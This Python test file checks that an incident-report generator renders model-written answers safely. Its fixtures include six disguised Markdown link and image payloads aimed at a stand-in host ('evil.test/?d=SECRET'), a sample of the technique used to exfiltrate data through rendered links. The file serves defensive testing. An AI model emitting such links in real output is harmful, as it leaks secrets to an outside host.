"""The incident report as a file that people forward and that Markdown viewers render."""

from datetime import UTC, datetime

import pytest

from bot.audit.verify import Summary
from bot.domain.dossier import Dossier, DossierTurn
from bot.domain.ids import ChannelId, MessageTs, Place, SessionId, TeamId
from bot.domain.session import Session
from bot.domain.turn_events import Evidence
from bot.reports.incident import ReportFacts, report

PLACE = Place(TeamId("T1"), ChannelId("C1"), MessageTs("1.0"))
AT = datetime(2026, 4, 7, 14, 35, tzinfo=UTC)
DISGUISED = (
    "[l](https://evil.test/?d=SECRET)",
    "![chart](https://evil.test/?d=SECRET)",
    "[l][1]\n\n[1]: https://evil.test/?d=SECRET",
    "<https://evil.test/?d=SECRET>",
    "https://evil.test/?d=SECRET",
    "&#91;l](https://evil.test/?d=SECRET)",
)


def reported(text: str) -> str:
    evidence = Evidence(1, "c1", "core__get_logs", text.splitlines()[0], True, 5, False, "")
    turn = DossierTurn("t1", "U1", "why?", text, "answered", AT, AT, None, (evidence,))
    session = Session(SessionId("session:T1:C1:1.0"), PLACE, "incident", AT, AT)
    facts = ReportFacts(AT, Summary(0, "", None, 0, 0, 0), None)
    return report(Dossier(session, (turn,), (), (), ()), facts)


@pytest.mark.parametrize("text", DISGUISED)
def test_no_address_from_a_model_is_a_link(text: str) -> None:
    shown = [line for line in reported(text).split("\n") if "evil.test" in line]

    assert shown
    assert [line for line in shown if "`https://evil.test/?d=SECRET`" not in line] == []
    assert "](https://evil" not in reported(text)


def test_an_answer_is_quoted_unchanged() -> None:
    written = "**p99** of `checkout` rose to 1.2 s & stayed [E1]\n\n```\na < b && c\n```"

    assert "> **p99** of `checkout` rose to 1.2 s & stayed [E1]" in reported(written)
    assert "> a &lt; b && c" in reported(written)
